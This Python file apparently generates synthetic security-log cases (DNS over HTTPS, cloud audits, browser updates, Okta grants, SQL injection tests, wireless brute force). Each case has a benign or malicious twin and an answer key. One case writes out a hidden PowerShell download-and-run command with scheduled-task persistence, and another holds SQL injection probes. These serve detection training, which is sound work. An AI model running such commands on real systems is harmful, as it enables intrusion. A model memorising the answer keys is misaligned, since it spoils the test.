# ruff: noqa: E501
"""Roll-outs, audits and tests that alarm, and hostile twins: encrypted names, updates, read-only audits, new administrators."""

import csv
import io
from datetime import datetime, timedelta

from casebook import Case, Log, iso
from cloud import role, trail
from identity import okta, okta_background
from upkeep import change
from web import combined, web_background


def zeek_ssl(case: Case, log: Log, when: datetime, client: str, server: str, name: str, *steps: str) -> None:
    """A line of Zeek's ssl.log as JSON."""
    log.add(when, {"ts": round(when.timestamp(), 6), "uid": f"C{case.hex(16)}", "id.orig_h": client, "id.orig_p": case.dice.randrange(40000, 60000), "id.resp_h": server, "id.resp_p": 443, "version": "TLSv13", "cipher": "TLS_AES_128_GCM_SHA256", "curve": "x25519", "server_name": name, "resumed": False, "established": True, "ssl_history": "CsiI"}, *steps)  # fmt: skip


def names_over_https() -> Case:
    """All browsers of the house ask names over HTTPS from one morning on, as a change had announced."""
    case = Case("b51_zeek_dns_over_https_roll_out", "2025-04-07 06:00:00")
    log = case.log("ssl.log")
    clients = [f"10.84.2.{20 + number}" for number in range(28)]
    for client in clients:
        for _ in range(14):
            zeek_ssl(case, log, case.sometime(days=2, hours=9), client, "198.51.100.80", case.dice.choice(("intranet.tind.example", "mail.tind.example", "news.example", "maps.example")))  # fmt: skip
        first = case.after(days=2, hours=1, minutes=case.dice.randrange(40))
        for turn in range(16):
            zeek_ssl(case, log, first + timedelta(minutes=25 * turn, seconds=case.dice.randrange(300)), client, "198.51.100.53", "mozilla.cloudflare-dns.com", "asked")  # fmt: skip
    changes = case.log("change_request.jsonl")
    changes.add(case.after(days=-3), change("CHG0009120", short_description="Firefox policy: DNS over HTTPS with mozilla.cloudflare-dns.com on all clients", requested_by="k.moe", assigned_to="k.moe", approved_by="a.rike", sys_created_on="2025-04-04 09:12:41", start_date="2025-04-09 06:00:00", end_date="2025-04-09 18:00:00", cmdb_ci="firefox-policy"), "change")  # fmt: skip
    changes.add(case.after(days=-3), change("CHG0009122", short_description="New certificate for the intranet", requested_by="j.dal", assigned_to="j.dal", approved_by="a.rike", sys_created_on="2025-04-04 10:02:00", start_date="2025-04-11 06:00:00", end_date="2025-04-11 08:00:00", cmdb_ci="intranet"))  # fmt: skip
    case.alert = {"title": "DNS over HTTPS to an outside resolver (possible tunnel)", "severity": "high", "time": iso(case.start + timedelta(days=2, hours=4)), "src_ip": clients[3], "domain": "mozilla.cloudflare-dns.com"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "From one morning on every client of the house asks the same public resolver over HTTPS, as an approved change of the browsers' policy said.",
        steps={"asked": "all clients alike", "change": "the change announced it"},
        not_iocs=("mozilla.cloudflare-dns.com", clients[3], "198.51.100.53"),
    )


AUDITED = ("iam:ListUsers", "iam:ListRoles", "iam:GetAccountPasswordPolicy", "iam:ListAccessKeys", "s3:ListBuckets", "s3:GetBucketAcl", "s3:GetBucketPolicyStatus", "ec2:DescribeSecurityGroups", "ec2:DescribeInstances", "ec2:DescribeSnapshots", "rds:DescribeDBInstances", "cloudtrail:DescribeTrails", "kms:ListKeys", "lambda:ListFunctions", "guardduty:ListDetectors")  # fmt: skip


def weekly_audit() -> Case:
    """A role that may only look goes through the whole account every Monday."""
    case = Case("b52_cloudtrail_weekly_read_only_audit", "2025-05-05 00:00:00")
    log = case.log("cloudtrail.jsonl")
    for _ in range(160):
        when = case.sometime(days=15)
        name = case.dice.choice(("web", "billing"))
        log.add(when, trail(case, when, role(f"app-{name}", f"i-0{case.hex(8)}", f"ASIA{case.hex(16).upper()}"), f"10.2.0.{20 + len(name)}", "Boto3/1.34.84 md/Botocore#1.34.84 lang/python#3.11.2", case.dice.choice(("s3:PutObject", "sqs:ReceiveMessage", "dynamodb:GetItem"))))  # fmt: skip
    for week in range(3):
        start = case.start + timedelta(days=7 * week, hours=4)
        key = f"ASIA{case.hex(16).upper()}"
        for turn in range(90):
            when = start + timedelta(seconds=2 * turn + case.dice.randrange(2))
            log.add(when, trail(case, when, role("security-audit", "prowler", key), "10.2.9.14", "Boto3/1.34.84 md/Botocore#1.34.84 lang/python#3.11.2 md/prowler", AUDITED[turn % len(AUDITED)]), "alerted" if week == 2 else "before")  # fmt: skip
    case.alert = {"type": "Discovery:IAMUser/AnomalousBehavior", "severity": 5, "time": iso(case.start + timedelta(days=14, hours=4, minutes=1)), "principal": "security-audit/prowler", "sourceIPAddress": "10.2.9.14", "description": "Unusual number of read calls to many services"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The audit's role lists and describes and does nothing else, at four on Mondays, from the same address in each week.",
        steps={"alerted": "this week's reading", "before": "the same in the weeks before"},
        not_iocs=("10.2.9.14", "security-audit"),
    )


COLUMNS = ("Timestamp", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA256", "ProcessCommandLine", "AccountName", "InitiatingProcessFileName", "InitiatingProcessFolderPath", "InitiatingProcessCommandLine", "RemoteIP", "RemotePort", "RemoteUrl")  # fmt: skip


def hunted(log: Log, when: datetime, device: str, action: str, path: str, sha: str, command: str, account: str, parent: str, parent_command: str, *steps: str, remote: tuple[str, str, str] = ("", "", "")) -> None:  # fmt: skip
    """A row of Defender's advanced hunting, exported as CSV."""
    written = io.StringIO()
    csv.writer(written, lineterminator="").writerow((iso(when, 6), device, action, path.rsplit("\\", 1)[-1], path, sha, command, account, parent.rsplit("\\", 1)[-1].lower(), parent, parent_command, *remote))  # fmt: skip
    log.add(when, written.getvalue(), *steps)


def desks(case: Case, log: Log) -> None:
    """What people start on a working day."""
    for _ in range(300):
        when = case.sometime(hours=9)
        device, user = case.dice.choice([(f"nb-{number:02}.skog.example", f"user{number:02}") for number in range(25)])
        path, command = case.dice.choice((("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE"), ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer"), ("C:\\Windows\\System32\\notepad.exe", "notepad.exe list.txt"), ("C:\\Program Files\\7-Zip\\7zFM.exe", "7zFM.exe")))  # fmt: skip
        hunted(log, when, device, "ProcessCreated", path, f"{sum(map(ord, path)):064x}", command, user, "C:\\Windows\\explorer.exe", "explorer.exe")  # fmt: skip


def browser_updates() -> Case:
    """The browser's own updater fetches and starts its set-up out of a temporary folder, on all machines alike."""
    case = Case("b53_defender_hunting_browser_update", "2025-06-24 06:00:00")
    log = case.log("AdvancedHunting.csv", ",".join(COLUMNS))
    desks(case, log)
    updater = "C:\\Program Files (x86)\\Google\\GoogleUpdater\\138.0.7194.0\\updater.exe"
    sha = case.hex(64)
    for number in range(25):
        start = case.after(hours=2, minutes=case.dice.randrange(240))
        device = f"nb-{number:02}.skog.example"
        folder = f"C:\\Windows\\SystemTemp\\chrome_Unpacker_BeginUnzipping{case.dice.randrange(1000, 9999)}_{case.dice.randrange(10**8)}"
        hunted(log, start, device, "ProcessCreated", updater, f"{77:064x}", f'"{updater}" --wake --system', "system", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "update")  # fmt: skip
        hunted(log, start + timedelta(seconds=9), device, "ConnectionSuccess", updater, f"{77:064x}", "", "system", updater, f'"{updater}" --wake --system', "update", remote=("198.51.100.174", "443", "dl.google.com"))  # fmt: skip
        installer = f"{folder}\\138.0.7204.50_chrome_installer_uncompressed.exe"
        hunted(log, start + timedelta(seconds=31), device, "ProcessCreated", installer, sha, f'"{installer}" --verbose-logging --do-not-launch-chrome --channel=stable --system-level', "system", updater, f'"{updater}" --wake --system', "update")  # fmt: skip
        hunted(log, start + timedelta(seconds=40), device, "ProcessCreated", f"{folder}\\CR_2A1F0.tmp\\setup.exe", f"{78:064x}", f'"{folder}\\CR_2A1F0.tmp\\setup.exe" --install-archive="{folder}\\CR_2A1F0.tmp\\CHROME.PACKED.7Z" --system-level', "system", installer, f'"{installer}"', "update")  # fmt: skip
    case.alert = {"Title": "Program started from a temporary folder with system rights after a download", "Severity": "High", "Timestamp": iso(case.start + timedelta(hours=4)), "DeviceName": "nb-07.skog.example", "FileName": "setup.exe"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The browser's updater, installed where only administrators write and started by its task, fetches the set-up from the vendor and runs the same file on all machines of the house that morning.",
        steps={"update": "updater, download and set-up on every machine"},
        not_iocs=("dl.google.com", updater, sha),
    )


def false_update() -> Case:
    """A script out of a mail drops a program of the updater's name that calls an address and comes back."""
    case = Case("m53_defender_hunting_false_update", "2025-06-24 06:00:00")
    log = case.log("AdvancedHunting.csv", ",".join(COLUMNS))
    desks(case, log)
    server, sha, user, device = case.public(), case.hex(64), "user07", "nb-07.skog.example"
    start = case.start + timedelta(hours=4)
    script = "C:\\Windows\\System32\\wscript.exe"
    program = "C:\\Users\\user07\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe"
    by_script = 'wscript.exe "C:\\Users\\user07\\Downloads\\Invoice_8841.js"'
    hunted(log, start, device, "ProcessCreated", script, f"{12:064x}", by_script, user, "C:\\Windows\\explorer.exe", "explorer.exe", "script")  # fmt: skip
    hunted(log, start + timedelta(seconds=6), device, "ProcessCreated", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", f"{13:064x}", f"powershell.exe -w hidden -c iwr http://{server}/g.bin -OutFile {program}; Start-Process {program}", user, script, by_script, "script")  # fmt: skip
    hunted(log, start + timedelta(seconds=15), device, "ProcessCreated", program, sha, f'"{program}" /ua', user, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -w hidden", "program")  # fmt: skip
    for turn in range(8):
        hunted(log, start + timedelta(seconds=20 + 60 * turn), device, "ConnectionSuccess", program, sha, "", user, program, f'"{program}" /ua', "program", remote=(server, "8443", ""))  # fmt: skip
    hunted(log, start + timedelta(seconds=30), device, "ProcessCreated", "C:\\Windows\\System32\\schtasks.exe", f"{14:064x}", f'schtasks.exe /create /f /sc minute /mo 20 /tn "GoogleUpdateTaskUser" /tr "{program} /ua"', user, program, f'"{program}" /ua', "task")  # fmt: skip
    case.alert = {"Title": "Program started from a profile folder after a download", "Severity": "High", "Timestamp": iso(start + timedelta(seconds=15)), "DeviceName": device, "FileName": "GoogleUpdate.exe"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "A script named like an invoice has PowerShell fetch a program from a bare address into the profile under the updater's name; it calls back every minute and a task brings it back.",
        steps={"script": "script and download", "program": "the program runs and calls", "task": "a task brings it back"},
        techniques="T1059.001 T1053.005",
        more_techniques="T1059.007 T1204.002 T1105 T1036.005 T1036 T1571 T1071.001 T1566.001 T1564.003 T1059 T1204 T1059.005 T1036.004",
        iocs=(server,),
        more_iocs=(sha, program, "GoogleUpdate.exe", "Invoice_8841.js", f"http://{server}/g.bin", "user07", "GoogleUpdateTaskUser", "C:\\Users\\user07\\Downloads\\Invoice_8841.js"),
    )  # fmt: skip


STAFF = ["anna.admin", "egil", "frida", "gard", "hedda", "iver", "mons"]


def okta_days(case: Case, days: int) -> tuple[Log, str]:
    """Three working days at one office."""
    log, office = case.log("okta-system-log.jsonl"), "33.71.20.5"
    okta_background(case, log, STAFF, office, "sund.example", 110 * days, 24 * days)
    for day in range(days):
        when = case.after(days=day, hours=8, minutes=20)
        log.add(when, okta(case, when, "anna.admin@sund.example", office, "user.session.access_admin_app", "User accessing Okta admin app", country="Norway"))  # fmt: skip
        when = case.after(days=day, hours=8, minutes=24)
        log.add(when, okta(case, when, "anna.admin@sund.example", office, "group.user_membership.add", "Add user to group membership", target=f"{STAFF[1 + day]}@sund.example", country="Norway"))  # fmt: skip
    return log, office


TICKETS = "Issue key,Issue type,Summary,Status,Reporter,Assignee,Approver,Created,Planned start,Planned end"


def new_help_desk_administrator() -> Case:
    """The administrator makes a new colleague an administrator for the help desk, as the head of it had asked."""
    case = Case("b54_okta_new_help_desk_administrator", "2025-09-15 00:00:00")
    log, office = okta_days(case, 4)
    when = case.start + timedelta(days=3, hours=10, minutes=2)
    for minutes, event_type, message, target in ((0, "user.session.access_admin_app", "User accessing Okta admin app", ""), (2, "user.account.privilege.grant", "Grant user privilege", "mons@sund.example")):  # fmt: skip
        then = when + timedelta(minutes=minutes)
        more = {"privilegeGranted": "Help Desk administrator"} if target else {}
        log.add(then, okta(case, then, "anna.admin@sund.example", office, event_type, message, target=target, country="Norway", **more), "granted" if target else "~console")  # fmt: skip
    tickets = case.log("jira-export.csv", TICKETS)
    tickets.add(case.after(days=1), "IT-2210,Change,Replace printer on floor 2,Done,egil@sund.example,frida@sund.example,hedda@sund.example,2025-09-16T09:00:00Z,2025-09-17T08:00:00Z,2025-09-17T12:00:00Z")  # fmt: skip
    tickets.add(case.after(days=2), "IT-2218,Change,Help Desk administrator in Okta for mons (to be granted by anna.admin),Approved,hedda@sund.example,anna.admin@sund.example,iver@sund.example,2025-09-17T11:40:00Z,2025-09-18T08:00:00Z,2025-09-18T16:00:00Z", "ticket")  # fmt: skip
    case.alert = {"title": "Administrator role granted", "severity": "High", "eventTime": iso(when + timedelta(minutes=2), 3), "actor": "anna.admin@sund.example", "grantedTo": "mons@sund.example", "sourceIp": office}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "anna.admin, from the office's address of every day, grants mons the help desk's role within the window of a change that hedda asked for and iver approved the day before.",
        steps={"granted": "the grant", "ticket": "asked and approved by others"},
        not_iocs=(office, "anna.admin@sund.example", "mons@sund.example"),
    )


def administrator_from_elsewhere() -> Case:
    """The same grant at night from an address that nobody used, without any ticket, and a token for the road."""
    case = Case("m54_okta_administrator_from_elsewhere", "2025-09-15 00:00:00")
    log, office = okta_days(case, 4)
    intruder = case.public()
    foreign = {"country": "Panama", "as_org": "hostwave", "is_proxy": True, "agent": "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"}  # fmt: skip
    start = case.start + timedelta(days=3, hours=2, minutes=2)
    for minutes, event_type, message, target, more in (
        (0, "user.session.start", "User login to Okta", "", {}), (1, "user.session.access_admin_app", "User accessing Okta admin app", "", {}),
        (4, "user.account.privilege.grant", "Grant user privilege", "mons@sund.example", {"privilegeGranted": "Super administrator"}),
        (7, "user.mfa.factor.reset_all", "Reset all factors for user", "mons@sund.example", {}), (9, "system.api_token.create", "Create API token", "", {"tokenName": "backup-sync"}),
    ):  # fmt: skip
        then = start + timedelta(minutes=minutes)
        log.add(then, okta(case, then, "anna.admin@sund.example", intruder, event_type, message, target=target, **foreign, **more), "granted" if "grant" in event_type else "more" if minutes > 4 else "in")  # fmt: skip
    tickets = case.log("jira-export.csv", TICKETS)
    tickets.add(case.after(days=1), "IT-2210,Change,Replace printer on floor 2,Done,egil@sund.example,frida@sund.example,hedda@sund.example,2025-09-16T09:00:00Z,2025-09-17T08:00:00Z,2025-09-17T12:00:00Z")  # fmt: skip
    case.alert = {"title": "Administrator role granted", "severity": "High", "eventTime": iso(start + timedelta(minutes=4), 3), "actor": "anna.admin@sund.example", "grantedTo": "mons@sund.example", "sourceIp": intruder}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "From a proxy abroad that nobody used, anna.admin's account makes mons super administrator at night, resets all factors of mons and makes a token; no ticket speaks of it.",
        steps={"granted": "the grant", "more": "factors reset, a token made"},
        optional={"in": "the session from elsewhere"},
        techniques="T1098.003",
        more_techniques="T1098 T1098.001 T1556.006 T1556 T1078 T1078.004 T1090 T1098.005",
        iocs=(intruder,),
        more_iocs=("anna.admin@sund.example", "mons@sund.example", "backup-sync"),
        not_iocs=(office, "hedda@sund.example"),
    )


def tester_of_the_house() -> Case:
    """A developer's injection tester runs against the laboratory's copy of the shop on an agreed afternoon."""
    case = Case("b55_nginx_agreed_injection_test", "2025-07-14 06:00:00")
    log = case.log("staging-access.log")
    web_background(case, log, ("/", "/search?q=boots", "/product?id=17", "/cart"), "staging.myr.example", 260, 10)
    start = case.start + timedelta(hours=7)
    agent = "sqlmap/1.8.5#stable (https://sqlmap.org)"
    for turn in range(120):
        when = start + timedelta(seconds=3 * turn)
        probe = (
            "17%20AND%201%3D1",
            "17%27%20OR%20%271%27%3D%271",
            "17%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
            "17%20AND%20SLEEP%285%29",
            "17%29%20ORDER%20BY%2010--",
        )[turn % 5]
        log.add(when, combined(when, "10.50.9.12", f"GET /product?id={probe}", case.dice.choice((200, 200, 500)), 512, agent=agent), "test")  # fmt: skip
    changes = case.log("change_request.jsonl")
    changes.add(case.after(days=-3), change("CHG0004410", short_description="Security test of staging.myr.example with sqlmap by t.lund from 10.50.9.12", requested_by="t.lund", assigned_to="t.lund", approved_by="m.aas", sys_created_on="2025-07-11 12:20:00", start_date="2025-07-14 12:00:00", end_date="2025-07-14 16:00:00", cmdb_ci="staging-web"), "change")  # fmt: skip
    case.alert = {"title": "SQL injection against the web application", "severity": "critical", "time": iso(start + timedelta(minutes=2)), "src_ip": "10.50.9.12", "site": "staging.myr.example"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "t.lund's tester tries the laboratory's copy of the shop from t.lund's desk within the window of a security test that m.aas approved three days before.",
        steps={"test": "the tester's requests", "change": "the approved test"},
        not_iocs=("10.50.9.12",),
    )


def station_that_guesses() -> Case:
    """A station that nobody knows guesses a password on the wireless network until it gets in."""
    case = Case("m55_freeradius_station_guesses", "2025-03-03 00:00:00")
    log = case.log("radius.log")
    turn = 0

    def told(when: datetime, user: str, station: str, *steps: str, is_right: bool) -> None:
        nonlocal turn
        turn += 1
        stamp = when.strftime("%a %b %e %H:%M:%S %Y")
        said = "Login OK" if is_right else "Login incorrect (mschap: MS-CHAP2-Response is incorrect)"
        outer = "Login OK" if is_right else "Login incorrect (eap_peap: The users session was previously rejected: returning reject (again.))"  # fmt: skip
        log.add(when, f"{stamp} : Auth: ({turn}) {said}: [{user}] (from client wlc1 port 0 via TLS tunnel)", *steps)
        log.add(when, f"{stamp} : Auth: ({turn}) {outer}: [{user}] (from client wlc1 port 13 cli {station})", *steps)

    for day in range(3):
        for user, station in (("sigrid", "A4-83-E7-10-9B-02"), ("tor", "A4-83-E7-55-20-7F"), ("wenche", "F0-18-98-02-44-C1")):  # fmt: skip
            for _ in range(14):
                told(case.after(days=day, hours=6, minutes=case.dice.randrange(600)), user, station, is_right=True)
    start = case.start + timedelta(days=2, hours=22, minutes=10)
    for number in range(64):
        told(start + timedelta(seconds=3 * number), "sigrid", "02-C0-CA-91-33-0E", "guessed", is_right=False)
    told(start + timedelta(seconds=3 * 64), "sigrid", "02-C0-CA-91-33-0E", "in", is_right=True)
    case.alert = {"rule": "Brute force against a wireless account", "severity": "high", "ts": iso(start + timedelta(minutes=2)), "user": "sigrid", "station": "02-C0-CA-91-33-0E", "failures": 40}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "At night a station that nobody had used guesses sigrid's password every three seconds until it gets in.",
        steps={"guessed": "the guesses", "in": "and one that works"},
        techniques="T1110.001",
        more_techniques="T1110 T1078 T1078.002 T1669",
        iocs=("02-C0-CA-91-33-0E",),
        more_iocs=("sigrid",),
        not_iocs=("tor", "wenche"),
    )


CASES = (
    names_over_https, weekly_audit, browser_updates, false_update, new_help_desk_administrator, administrator_from_elsewhere,
    tester_of_the_house, station_that_guesses,
)  # fmt: skip
